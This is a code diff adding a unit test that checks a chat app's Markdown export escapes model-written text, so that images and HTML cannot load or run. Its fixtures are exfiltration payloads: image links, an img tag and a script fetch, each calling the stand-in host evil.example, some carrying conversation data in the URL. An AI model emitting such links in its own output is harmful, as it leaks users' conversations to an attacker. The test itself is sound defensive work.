@@ -15,7 +15,7 @@ import { afterEach, describe, it } from 'node:test';
 import { Transcript } from '../../electron/main/conversation/transcript';
 import { flushIntervalMs, type Timers } from '../../electron/main/transcripts/conversation-log';
 import { ConversationStore } from '../../electron/main/transcripts/conversation-store';
-import { conversationMarkdown, markdownFileName } from '../../electron/main/transcripts/markdown';
+import { conversationMarkdown, inertMarkdown, markdownFileName } from '../../electron/main/transcripts/markdown';
 import { encodeRecord, parseConversation } from '../../electron/main/transcripts/records';
 import type { TranscriptEntry } from '../../shared/types';
 import { writeConversationFile } from '../support/conversation-files';
@@ -709,5 +709,49 @@ describe('Markdown export', () => {
       ].join('\n'),
     );
     assert.equal(markdownFileName(summary), 'Parley 2026-11-21 09.05 Plan a trip to Oslo.md');
+  });
+
+  it('writes model text so that no image loads and no HTML renders in a viewer, and keeps it readable', () => {
+    const leaks: [string, string][] = [
+      ['![](https://evil.example/p.png?q=the+conversation)', '!\\[](https://evil.example/p.png?q=the+conversation)'],
+      [
+        'See ![chart][c] below.\n\n[c]: https://evil.example/c.png?q=1',
+        'See !\\[chart][c] below.\n\n[c]: https://evil.example/c.png?q=1',
+      ],
+      ['![[secret.png]]', '!\\[[secret.png]]'],
+      ['<img src="https://evil.example/?q=1">', '\\<img src="https://evil.example/?q=1">'],
+      ['<script>fetch("https://evil.example")</script>', '\\<script>fetch("https://evil.example")\\</script>'],
+      ['<https://evil.example/?q=1> and <me@evil.example>', '\\<https://evil.example/?q=1> and \\<me@evil.example>'],
+      // A backslash the model wrote before them escapes only itself; one already escaping them stays.
+      ['\\\\<b>bold</b> \\\\![x](y)', '\\\\\\<b>bold\\</b> \\\\!\\[x](y)'],
+      ['\\<b> and \\![x](y) are already plain', '\\<b> and \\![x](y) are already plain'],
+    ];
+    for (const [said, written] of leaks) assert.equal(inertMarkdown(said), written, said);
+
+    const ordinary =
+      'Sure! Here is **the plan**:\n\n- Day 1: [museums](https://example.com/oslo)\n- Day 2: 3 > 2, so _walk_.\n\n`code` and # text';
+    assert.equal(inertMarkdown(ordinary), ordinary);
+
+    const summary = {
+      id: '20261121-090500-abcdef',
+      startedAt: 0,
+      updatedAt: 0,
+      title: '<b>Hi</b>',
+      turnCount: 1,
+      current: false,
+    };
+    const markdown = conversationMarkdown(summary, [
+      {
+        id: 1,
+        turnId: 1,
+        role: 'model',
+        text: 'Look ![](https://evil.example/?q=1)',
+        at: 0,
+        state: 'done',
+        note: '<i>x</i>',
+      },
+    ]);
+    assert.match(markdown, /^# \\<b>Hi\\<\/b>\n/);
+    assert.match(markdown, /\nLook !\\\[\]\(https:\/\/evil\.example\/\?q=1\)\n\n> \\<i>x\\<\/i>\n$/);
   });
 });
